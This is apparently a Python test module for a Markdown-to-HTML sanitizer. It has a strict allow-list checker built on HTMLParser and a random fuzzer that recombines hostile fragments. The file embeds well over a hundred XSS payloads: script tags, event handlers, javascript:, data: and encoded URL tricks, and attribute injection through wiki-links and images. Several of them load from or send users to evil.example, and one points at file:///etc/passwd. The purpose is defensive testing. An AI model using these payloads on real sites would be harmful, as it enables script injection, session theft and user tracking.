"""Hostile Markdown, a strict eye for what is left of it, and a dice that makes more of the same."""

from __future__ import annotations

import random
import re
from html.parser import HTMLParser

ALLOWED = {
    *(
        "a",
        "blockquote",
        "br",
        "code",
        "del",
        "em",
        "h1",
        "h2",
        "h3",
        "h4",
        "h5",
        "h6",
        "hr",
        "li",
        "ol",
        "p",
    ),
    *("pre", "s", "span", "strong", "table", "tbody", "td", "th", "thead", "tr", "ul", "img"),
}
OURS = re.compile(r"\.\./\.\./files/[0-9a-f]{32}\.(jpg|png|gif|webp)")
SAFE_STARTS = ("http://", "https://", "mailto:", "tel:", "../../people/")

_WRITTEN = r"""
<script>alert(1)</script>
<SCRIPT SRC=//evil.example/x.js></SCRIPT>
<script
<img src=x onerror=alert(1)>
<img src="x" onerror="alert(1)"
<svg onload=alert(1)>
<svg><script>alert(1)</script></svg>
<math><mi//xlink:href="data:x,<script>alert(1)</script>">
<iframe src=javascript:alert(1)></iframe>
<iframe srcdoc="<script>alert(1)</script>">
<object data=javascript:alert(1)>
<embed src=javascript:alert(1)>
<base href=//evil.example/>
<link rel=stylesheet href=//evil.example/x.css>
<meta http-equiv=refresh content="0;url=//evil.example">
<style>*{background:url(//evil.example)}</style>
<p style="background:url(//evil.example)">x</p>
<div class=panel id=main>x</div>
<form action=//evil.example><input name=q><button>go</button></form>
<details open ontoggle=alert(1)>x</details>
<video><source onerror=alert(1)></video>
<a href="javascript:alert(1)">x</a>
<a href=" javascript:alert(1)">x</a>
<!-- <img src=x onerror=alert(1)> -->
<!--><script>alert(1)</script>
<?php echo 1 ?>
<![CDATA[<script>alert(1)</script>]]>
<x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script>
<noscript><p title="</noscript><img src=x onerror=alert(1)>">
<template><script>alert(1)</script></template>
<textarea></textarea><script>alert(1)</script>
[x](javascript:alert(1))
[x](JaVaScRiPt:alert(1))
[x]( javascript:alert(1))
[x](<javascript:alert(1)>)
[x](java\nscript:alert(1))
[x](java&#10;script:alert(1))
[x](java&Tab;script:alert(1))
[x](&#106;avascript:alert(1))
[x](&#x6A;&#x61;vascript:alert(1))
[x](javascript&colon;alert(1))
[x](javascript&#58;alert(1))
[x](&#1;javascript:alert(1))
[x](\x01javascript:alert(1))
[x](javascript\:alert(1))
[x](%6aavascript:alert(1))
[x](vbscript:msgbox(1))
[x](livescript:alert(1))
[x](data:text/html,<script>alert(1)</script>)
[x](data:text/html;base64,PHNjcmlwdD4=)
[x](data:image/svg+xml;base64,PHN2Zz4=)
[x](file:///etc/passwd)
[x](blob:https://evil.example/1)
[x](filesystem:http://evil.example/)
[x](ftp://evil.example/)
[x](ws://evil.example/)
[x](about:blank)
[x](view-source:https://evil.example)
[x](intent://evil.example#Intent;end)
[x](//evil.example/x)
[x](\\\\evil.example\\x)
[x](/\\evil.example)
[x](https:javascript:alert(1))
[x](https://a.example/" onmouseover="alert(1))
[x](https://a.example "t" onclick=alert(1))
[x](https://a.example "\" onmouseover=\"alert(1)")
[x](https://a.example/<script>)
[x]: javascript:alert(1)\n\n[x]
[x]: <javascript:alert(1)> "t"\n\n[x][] ![x]
[x][y]\n\n[y]: data:text/html,<script>alert(1)</script>
<javascript:alert(1)>
<data:text/html,x>
<JAVASCRIPT:alert(1)>
<vbscript:x>
<a@b.example" onclick="alert(1)>
<https://a.example/"onmouseover="alert(1)>
![x](javascript:alert(1))
![x](data:image/svg+xml,<svg onload=alert(1)>)
![x](data:image/png;base64,AAAA)
![x](https://evil.example/pixel.png)
![x](//evil.example/pixel.png)
![" onerror="alert(1)](x.png)
![x](x.png "\" onerror=\"alert(1)")
![x](x" onerror="alert(1))
![<script>alert(1)</script>](https://evil.example/x.png)
[![x](https://evil.example/pixel.png)](javascript:alert(1))
![![x](javascript:alert(1))](https://evil.example/y.png)
`<script>alert(1)</script>`
```html\n<script>alert(1)</script>\n```
```"><script>alert(1)</script>\nx\n```
```x" onmouseover="alert(1)\nx\n```
~~~ <img src=x onerror=alert(1)>\nx\n~~~
    <script>alert(1)</script>
| <script>alert(1)</script> | b |\n| --- | :-: |\n| <img src=x onerror=alert(1)> | [x](javascript:alert(1)) |
# <img src=x onerror=alert(1)>
> <script>\n> alert(1)</script>
- <script>alert(1)\n- </script>
**<script>**alert(1)**</script>**
&lt;script&gt;alert(1)&lt;/script&gt;
&#60;script&#62;alert(1)&#60;/script&#62;
&NewLine;<script>alert(1)</script>
\<script>alert(1)\</script>
[[<img src=x onerror=alert(1)>]]
[[Priya Nair|<script>alert(1)</script>]]
[[Priya Nair|" onclick="alert(1)]]
[[javascript:alert(1)]]
[[Priya Nair]](javascript:alert(1))
{{ 7 * 7 }}{% include "base.html" %}
<plaintext>
<xmp><script>alert(1)</script></xmp>
</div></main></body></html><script>alert(1)</script>
<svg><style><img src=x onerror=alert(1)></style></svg>
<math><annotation-xml encoding="text/html"><script>alert(1)</script></annotation-xml></math>
<a href="https://a.example" target=_blank onclick=alert(1)>x</a>
<img src=x:alert(alt) onerror=eval(src) alt=0>
![x](a.png" onerror="alert(1))
![x](<a.png" onload="alert(1)>)
![" onload="alert(1)](a.png)
![](a.png "\" onload=\"alert(1)")
![[a.png|" onload="alert(1)]]
![[" onload="alert(1).png]]
![[https://evil.example/x.png]]
![[//evil.example/x.png]]
![[javascript:alert(1)//.png]]
![x](a.png#"><script>alert(1)</script>)
![x](../../files/00000000000000000000000000000000.png)
![x](../../files/00000000000000000000000000000000.svg)
![x](a.svg)
![[a.svg]]
![x](https:evil.example/x.png)
![x](http:///evil.example/x.png)
![x](\\\\evil.example/x.png)
![x](/\\evil.example/x.png)
![x](&#47;&#47;evil.example/x.png)
![x](%2f%2fevil.example/x.png)
![x](\x09//evil.example/x.png)
[x]: //evil.example/x.png\n\n![x]
![x][y]\n\n[y]: <https://evil.example/x.png> "a.png"
[![x](a.png)](javascript:alert(1))
![x](a.png) <img src=//evil.example/x.png>
""".strip("\n").splitlines()

HOSTILE = tuple(re.sub(r"\\x(\d\d)", lambda m: chr(int(m[1], 16)), s).replace("\\n", "\n") for s in _WRITTEN)
"""Each line above is one snippet; `\\n` in it is a line end."""


class Wall(HTMLParser):
    """Notes down every element and attribute that a browser would see and that should not be."""

    def __init__(self) -> None:
        super().__init__()
        self.wrong: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag not in ALLOWED:
            self.wrong.append(f"<{tag}>")
        for name, value in attrs:
            allowed = (
                (tag == "a" and name == "href" and (value or "").startswith(SAFE_STARTS))
                or (tag == "a" and (name, value) == ("rel", "noopener noreferrer nofollow"))
                or (tag == "a" and name == "title")
                or (tag == "ol" and name == "start")
                or (tag == "img" and name == "src" and OURS.fullmatch(value or ""))
                or (tag == "img" and name in {"width", "height"} and (value or "").isdigit())
                or (tag == "img" and (name == "alt" or (name, value) == ("loading", "lazy")))
                or (tag == "span" and (name, value) == ("class", "attachment"))
            )
            if not allowed:
                self.wrong.append(f"<{tag} {name}={value!r}>")

    def handle_comment(self, data: str) -> None:
        self.wrong.append(f"<!--{data}-->")

    def handle_decl(self, decl: str) -> None:
        self.wrong.append(f"<!{decl}>")

    def handle_pi(self, data: str) -> None:
        self.wrong.append(f"<?{data}>")

    def unknown_decl(self, data: str) -> None:
        self.wrong.append(f"<![{data}]>")


def wrong_in(html: str) -> list[str]:
    wall = Wall()
    wall.feed(html)
    wall.close()
    return wall.wrong


PIECES = (
    *(
        "<",
        ">",
        '"',
        "'",
        "`",
        "[",
        "]",
        "(",
        ")",
        "!",
        "\\",
        "&",
        "#",
        ":",
        "/",
        "|",
        "*",
        "_",
        "~",
        "\n",
        "\n\n",
    ),
    *(
        "\t",
        " ",
        "    ",
        "- ",
        "> ",
        "1. ",
        "```",
        "~~~",
        "---",
        "\x00",
        "\x01",
        "\x0b",
        "\x0c",
        "\r",
        "\x85",
        "\u2028",
    ),
    *(
        "\ufeff",
        "\u202e",
        "\u200b",
        "\u00a0",
        "\ud800",
        "<script>",
        "</script>",
        "alert(1)",
        "javascript:",
        "data:",
    ),
    *(
        "java\nscript:",
        "jAvAsCrIpT&colon;",
        "&#106;",
        "&#x6a;",
        "&lt;",
        "&quot;",
        "&Tab;",
        "&NewLine;",
        "vbscript:",
    ),
    *(
        "<img src=x onerror=alert(1)>",
        "<svg onload=alert(1)>",
        "<style>",
        "</style>",
        "<!--",
        "-->",
        "--!>",
        "<![CDATA[",
    ),
    *(
        "]]>",
        "<?",
        "?>",
        "<a href=",
        "<math><mi>",
        "<noscript>",
        "<template>",
        "<iframe srcdoc=",
        "<base href=//evil.example>",
    ),
    *(
        "onclick=",
        'style="',
        "https://evil.example/",
        "//evil.example/x.png",
        "mailto:a@b.example",
        "tel:1",
        "a.png",
    ),
    *(
        "](",
        "![",
        "![[",
        "[[",
        "]]",
        "[[Priya Nair|",
        "[x]: ",
        "[x]",
        ' "t"',
        "|-|-|\n",
        "{{ 7 }}",
        "{% raw %}",
        "file:///",
    ),
    *(
        "x",
        "é",
        "😀",
        "http://[",
        "%2f",
        "%00",
        "../",
        "..\\",
        "files/",
        "=\n",
        "\\\n",
        "  \n",
        "</div>",
        "</p>",
        "<p ",
    ),
)
"""What hostile texts are made of, and what the parsers of Markdown and HTML look for."""


_FORMS = (
    *(
        "[{}]({})",
        '[{}]({} "{}")',
        "[{}](<{}>)",
        "![{}]({})",
        "![{}](<{}> '{}')",
        "[[{}]]",
        "[[Priya Nair|{}]]",
    ),
    *(
        "![[{}.png]]",
        "![[a.png|{}]]",
        "<https://{}>",
        "<mailto:{}>",
        "<{}:{}>",
        "[{}][{}]",
        "\n\n[{}]: {}\n\n",
    ),
    *(
        "\n\n[x]: <{}> '{}'\n\n[x] ![x]",
        "`{}`",
        "**{}**",
        "*{}*",
        "~~{}~~",
        "\n# {}\n",
        "\n> {}\n",
        "\n- {}\n",
    ),
    *(
        "\n```{}\n{}\n```\n",
        "\n| {} | {} |\n| --- | :-: |\n| {} | {} |\n",
        "\n    {}\n",
        "<{}>",
        "<a {}='{}'>{}</a>",
    ),
    *(
        "<img {}={}>",
        "<!--{}-->",
        "&{};",
        "{}\\{}",
        "[{}](https://a.example/{})",
        "[{}](tel:{})",
        "![{}](a.png{})",
    ),
)


def _made(dice: random.Random, deep: int) -> str:
    """Something that Markdown means, with hostile pieces or more of the same in its gaps."""
    form = dice.choice(_FORMS)
    gaps = [
        _made(dice, deep - 1)
        if deep and not dice.randrange(3)
        else "".join(dice.choices(PIECES, k=dice.randrange(4)))
        for _ in range(form.count("{}"))
    ]
    return form.format(*gaps)


def thrown(dice: random.Random) -> str:
    """A text of hostile pieces, or a hostile snippet that was cut up and put together wrongly."""
    way = dice.randrange(4)
    if way == 0:
        return "".join(dice.choices(PIECES, k=dice.randrange(1, 24)))
    if way > 1:
        return "".join(_made(dice, 3) for _ in range(dice.randrange(1, 5)))
    one, two = dice.choice(HOSTILE), dice.choice(HOSTILE)
    whole = one[: dice.randrange(len(one) + 1)] + dice.choice(PIECES) + two[dice.randrange(len(two)) :]
    at = dice.randrange(len(whole))
    return whole[:at] + dice.choice(PIECES) + whole[at + dice.randrange(3) :]
